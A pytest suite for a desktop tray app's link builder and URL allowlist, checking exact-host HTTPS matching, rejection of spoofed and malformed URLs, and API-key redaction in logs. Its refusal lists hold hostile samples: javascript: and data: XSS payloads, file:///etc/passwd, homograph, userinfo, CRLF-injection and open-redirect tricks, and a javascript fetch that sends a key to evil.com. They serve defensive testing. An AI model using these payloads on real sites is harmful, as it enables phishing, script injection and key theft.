"""core.links: the links we build and the allowlist every opened URL passes."""

from __future__ import annotations

import logging
from urllib.parse import parse_qs, urlsplit

import pytest

from vendo_tray.core.links import Links, has_app_key, parse_origin, redact_url

KEY = "vendo_sk_live_SECRET123"


def links(base: str = "https://vendo.run", key: str | None = KEY, keep_key_out: bool = False) -> Links:
    return Links(base, lambda: key, keep_key_out)


# ------------------------------------------------------------------ allowlist
ALLOWED_ON_VENDO = [
    "https://vendo.run",
    "https://vendo.run/",
    "https://vendo.run/dashboard",
    "https://vendo.run/dashboard/connections/conn_123",
    "https://vendo.run/billing?from=tray#top",
    "https://VENDO.RUN/billing",                       # host names are case-insensitive
    "HTTPS://vendo.run/billing",                      # so are schemes
    "https://vendo.run:443/billing",                  # the default port, spelled out
    "https://vendo.run/connections/connect/slack?app_key=vendo_sk_x&return_to=https%3A%2F%2Fvendo.run%2Fdashboard",
    "https://vendo.run/p/a%20b",                      # ordinary escapes are fine in a path
]

REFUSED_ON_VENDO = [
    # other schemes
    "javascript:alert(1)",
    "JavaScript:alert(document.cookie)",
    "javascript://vendo.run/%0aalert(1)",
    "file:///etc/passwd",
    "file://vendo.run/etc/passwd",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "ftp://vendo.run/x",
    "mailto:a@vendo.run",
    "http://vendo.run/billing",                       # plain http to a real host
    "//vendo.run/billing",                            # scheme-relative
    "/billing",                                       # relative
    "vendo.run/billing",
    "",
    # other hosts and look-alikes
    "https://evil.com/",
    "https://vendo.run.evil.com/",
    "https://evilvendo.run/",
    "https://app.vendo.run/",                         # exact host only, no subdomains
    "https://vend0.run/",
    "https://vendo.run./billing",                     # trailing dot
    "https://vendo.run../billing",
    "https://xn--vndo-dra.run/",                      # punycode
    "https://vеndo.run/",                             # Cyrillic "е"
    "https://vendo.rün/",
    "https://vendo%2erun/",                           # percent-encoded host
    "https://vendo.run%2f@evil.com/",
    "https://vendo.run%2F.evil.com/",
    # userinfo tricks
    "https://vendo.run@evil.com/",
    "https://user:pass@vendo.run/",
    "https://@vendo.run/",
    "https://evil.com\\@vendo.run/",
    "https://evil.com%5C@vendo.run/",
    "https://vendo.run:443@evil.com/",
    # backslashes, whitespace, control characters
    "https:\\\\evil.com",
    "https://vendo.run\\evil.com/",
    "https:/\\vendo.run/",
    "https://vendo.run/\\evil.com",
    " https://vendo.run/",
    "https://vendo.run/ ",
    "https://vendo.run/a b",
    "https://ven\tdo.run/",
    "https://vendo.run/\nSet-Cookie: x",
    "https://vendo.run/\x00",
    "https://vendo.run/\x7f",
    "\x01https://vendo.run/",
    # ports
    "https://vendo.run:8443/",
    "https://vendo.run:/",
    "https://vendo.run:0/",
    "https://vendo.run:99999/",
    "https://vendo.run:+443/",
    "https://vendo.run:443:443/",
    "https://vendo.run:0x1bb/",
    # path games
    "https://vendo.run//evil.com",
    "https://vendo.run/%2F%2Fevil.com",
    "https://vendo.run/%2f%2fevil.com",
    "https://vendo.run/a/%2e%2e/b",
    "https://vendo.run/a/../../b",
    "https://vendo.run/./x",
    "https://vendo.run/%5cevil.com",
    "https://vendo.run/%00",
    "https://vendo.run/%0d%0aSet-Cookie:x",
    # open redirects through our own host
    "https://vendo.run/connections/connect/slack?return_to=https://evil.com/",
    "https://vendo.run/connections/connect/slack?return_to=https%3A%2F%2Fevil.com%2F",
    "https://vendo.run/login?next=javascript:alert(1)",
    "https://vendo.run/login?redirect_uri=//evil.com",
    # wrong types and sizes
    None,
    123,
    b"https://vendo.run/",
    "https://vendo.run/" + "a" * 5000,
    "[",
    "https://[::1/",
]


@pytest.mark.parametrize("url", ALLOWED_ON_VENDO)
def test_allowlist_accepts_the_vendo_host(url: str) -> None:
    assert links().check(url) == url


@pytest.mark.parametrize("url", REFUSED_ON_VENDO)
def test_allowlist_refuses_hostile_urls(url: object, caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.WARNING, logger="vendo_tray.core.links"):
        assert links().check(url) is None
    refusals = [r for r in caplog.records if "refused to open link" in r.getMessage()]
    assert len(refusals) == 1, "exactly one log line per refusal"
    assert "\n" not in refusals[0].getMessage()


LOOPBACK_CASES = [
    # (base, url, allowed)
    ("http://127.0.0.1:8765", "http://127.0.0.1:8765/dashboard", True),
    ("http://127.0.0.1:8765", "https://127.0.0.1:8765/dashboard", True),
    ("http://127.0.0.1:8765", "http://127.0.0.1:8766/dashboard", False),
    ("http://127.0.0.1:8765", "http://127.0.0.1/dashboard", False),
    ("http://127.0.0.1:8765", "http://localhost:8765/dashboard", False),   # exact host only
    ("http://127.0.0.1:8765", "http://127.1:8765/dashboard", False),
    ("http://127.0.0.1:8765", "http://2130706433:8765/dashboard", False),
    ("http://127.0.0.1:8765", "http://127.0.0.1:8765@evil.com/", False),
    ("http://127.0.0.1:8765", "http://evil.com:8765/", False),
    ("http://127.5.6.7:9", "http://127.5.6.7:9/x", True),                  # all of 127/8
    ("http://localhost:8000", "http://localhost:8000/billing", True),
    ("http://localhost:8000", "http://LOCALHOST:8000/billing", True),
    ("http://[::1]:8000", "http://[::1]:8000/billing", True),
    ("http://[::1]:8000", "http://[::2]:8000/billing", False),
    ("http://[::1]:8000", "http://[::1%25eth0]:8000/billing", False),
    ("https://vendo.run", "http://vendo.run/billing", False),
    ("https://vendo.run:8443", "https://vendo.run:8443/x", True),
    ("https://vendo.run:8443", "https://vendo.run/x", False),
    ("https://vendo.run/prefix", "https://vendo.run/prefix/dashboard", True),
    ("https://vendo.run/prefix", "https://vendo.run/other", False),
]


@pytest.mark.parametrize(("base", "url", "allowed"), LOOPBACK_CASES)
def test_http_only_for_a_loopback_base_and_exact_host_and_port(base: str, url: str, allowed: bool) -> None:
    assert links(base).allowed(url) is allowed


@pytest.mark.parametrize("base", [
    "http://vendo.run",                 # plain http to a real host
    "http://10.0.0.5:8765",
    "http://127.0.0.1.evil.com",
    "ftp://vendo.run",
    "vendo.run",
    "",
    "https://user@vendo.run",
    "https://vendo.run?x=1",
    "https://vendo.run/..",
])
def test_an_untrustworthy_base_url_opens_nothing(base: str, caplog: pytest.LogCaptureFixture) -> None:
    lk = links(base)
    assert parse_origin(base) is None
    assert lk.check("https://vendo.run/dashboard") is None
    assert lk.reauthorize("slack", "c1") is None
    assert lk.dashboard() is None
    assert lk.top_up("https://vendo.run/billing") is None


def test_refusal_log_line_never_shows_the_key(caplog: pytest.LogCaptureFixture) -> None:
    lk = links()
    hostile = [
        f"https://evil.com/connect?app_key={KEY}",
        f"https://evil.com/connect?APP_KEY={KEY}&x=1",
        f"https://evil.com/{KEY}",
        f"https://evil.com/connect?app%5Fkey={KEY}",
        f"javascript:fetch('//evil.com/?k={KEY}')",
    ]
    with caplog.at_level(logging.WARNING, logger="vendo_tray.core.links"):
        for url in hostile:
            assert lk.check(url) is None
    assert len(caplog.records) == len(hostile)
    assert KEY not in caplog.text
    assert "SECRET123" not in caplog.text


def test_the_current_key_is_masked_even_when_it_does_not_look_like_a_key(caplog: pytest.LogCaptureFixture) -> None:
    lk = Links("https://vendo.run", lambda: "plainsecret42", False)
    with caplog.at_level(logging.WARNING, logger="vendo_tray.core.links"):
        lk.check("https://evil.com/?k=plainsecret42")
    assert "plainsecret42" not in caplog.text


@pytest.mark.parametrize(("url", "expected"), [
    ("https://vendo.run/c?app_key=vendo_sk_abc&return_to=x", "https://vendo.run/c?app_key=[redacted]&return_to=x"),
    ("https://vendo.run/c?return_to=x&App_Key=abc#f", "https://vendo.run/c?return_to=x&App_Key=[redacted]#f"),
    ("https://vendo.run/c?app_key=", "https://vendo.run/c?app_key=[redacted]"),
    ("https://vendo.run/vendo_sk_abc-def", "https://vendo.run/vendo_sk_[redacted]"),
    ("https://vendo.run/\nforged log line", "https://vendo.run/\\x0aforged log line"),
    ("https://vendo.run/dashboard", "https://vendo.run/dashboard"),
])
def test_redact_url(url: str, expected: str) -> None:
    assert redact_url(url) == expected


def test_redact_url_caps_length_and_takes_anything() -> None:
    assert len(redact_url("https://vendo.run/" + "a" * 10_000)) <= 201
    assert redact_url(None) == "None"
    assert redact_url(b"x") == "b'x'"


# ------------------------------------------------------------------ builders
def test_reauthorize_is_the_sdk_connect_url_with_key_and_return_to() -> None:
    url = links().reauthorize("slack", "conn_1")
    assert url is not None
    parts = urlsplit(url)
    assert (parts.scheme, parts.netloc, parts.path) == ("https", "vendo.run", "/connections/connect/slack")
    query = parse_qs(parts.query)
    assert query == {"app_key": [KEY], "return_to": ["https://vendo.run/dashboard"]}


def test_reauthorize_url_encodes_slug_and_key() -> None:
    url = Links("https://vendo.run", lambda: "vendo_sk_a+b&c=d", False).reauthorize("google drive", "c")
    assert url is not None
    parts = urlsplit(url)
    assert parts.path == "/connections/connect/google%20drive"
    assert parse_qs(parts.query)["app_key"] == ["vendo_sk_a+b&c=d"]


@pytest.mark.parametrize(("keep_key_out", "key", "connection_id", "expected"), [
    (True, KEY, "conn_1", "https://vendo.run/dashboard/connections/conn_1"),
    (False, None, "conn_1", "https://vendo.run/dashboard/connections/conn_1"),
    (False, "", "conn_1", "https://vendo.run/dashboard/connections/conn_1"),
    (True, KEY, None, "https://vendo.run/dashboard"),
    (False, None, None, "https://vendo.run/dashboard"),
    (True, KEY, "a/../b", "https://vendo.run/dashboard"),   # an id that would escape the path
])
def test_keep_key_out_or_no_key_opens_the_dashboard(keep_key_out: bool, key: str | None,
                                                      connection_id: str | None, expected: str) -> None:
    url = links(key=key, keep_key_out=keep_key_out).reauthorize("slack", connection_id)
    assert url == expected
    assert url is not None and "app_key" not in url


@pytest.mark.parametrize("slug", ["..", "a/b", "../../evil", "x\\y", None, ""])
def test_a_hostile_or_missing_slug_falls_back_to_the_dashboard(slug: str | None) -> None:
    assert links().reauthorize(slug, "conn_9") == "https://vendo.run/dashboard/connections/conn_9"


def test_a_key_provider_that_raises_gives_the_key_free_link(caplog: pytest.LogCaptureFixture) -> None:
    def locked() -> str:
        raise RuntimeError(f"keyring locked (had {KEY})")

    lk = Links("https://vendo.run", locked, False)
    assert lk.reauthorize("slack", "c1") == "https://vendo.run/dashboard/connections/c1"
    assert KEY not in caplog.text


@pytest.mark.parametrize(("connect_url", "keep_key_out", "expected"), [
    # a good server URL wins
    ("https://vendo.run/connections/connect/slack?token=t1",
     False, "https://vendo.run/connections/connect/slack?token=t1"),
    # a hostile one is refused: our own connect URL instead
    ("https://evil.com/connections/connect/slack", False, "OWN"),
    ("javascript:alert(1)", False, "OWN"),
    ("https://vendo.run@evil.com/connect", False, "OWN"),
    ("https://vendo.run/connections/connect/slack?return_to=https://evil.com", False, "OWN"),
    # with keep-key-out, a server URL that carries a key is not used either
    ("https://vendo.run/connections/connect/slack?app_key=vendo_sk_srv", True,
     "https://vendo.run/dashboard/connections/c1"),
    ("https://vendo.run/connections/connect/slack?t=1", True, "https://vendo.run/connections/connect/slack?t=1"),
    ("https://evil.com/x", True, "https://vendo.run/dashboard/connections/c1"),
])
def test_server_connect_url_only_through_the_allowlist(connect_url: str, keep_key_out: bool,
                                                         expected: str) -> None:
    lk = links(keep_key_out=keep_key_out)
    own = lk.reauthorize("slack", "c1")
    url = lk.reauthorize("slack", "c1", connect_url=connect_url)
    assert url == (own if expected == "OWN" else expected)


@pytest.mark.parametrize(("balance_url", "expected"), [
    ("https://vendo.run/billing", "https://vendo.run/billing"),
    ("https://vendo.run/billing/top-up?amount=20", "https://vendo.run/billing/top-up?amount=20"),
    ("https://evil.com/billing", "https://vendo.run/billing"),
    ("javascript:alert(1)", "https://vendo.run/billing"),
    (None, "https://vendo.run/billing"),
])
def test_top_up(balance_url: str | None, expected: str) -> None:
    assert links().top_up(balance_url) == expected


def test_manage_and_dashboard_on_a_loopback_simulator() -> None:
    lk = links("http://127.0.0.1:8765/")
    assert lk.root == "http://127.0.0.1:8765"
    assert lk.manage("conn 1") == "http://127.0.0.1:8765/dashboard/connections/conn%201"
    assert lk.manage(None) == "http://127.0.0.1:8765/dashboard"
    assert lk.dashboard() == "http://127.0.0.1:8765/dashboard"
    assert lk.reauthorize("slack", "c").startswith("http://127.0.0.1:8765/connections/connect/slack?app_key=")


def test_every_built_link_passes_the_gate() -> None:
    for lk in (links(), links(keep_key_out=True), links("http://[::1]:9000"), links("https://vendo.run:8443/v")):
        for url in (lk.reauthorize("slack", "c1"), lk.manage("c1"), lk.dashboard(), lk.top_up()):
            assert url is not None and lk.allowed(url), url


def test_has_app_key() -> None:
    assert has_app_key("https://vendo.run/c?x=1&app_key=k")
    assert has_app_key("https://vendo.run/c?APP_KEY=")
    assert not has_app_key("https://vendo.run/c?x=app_key")
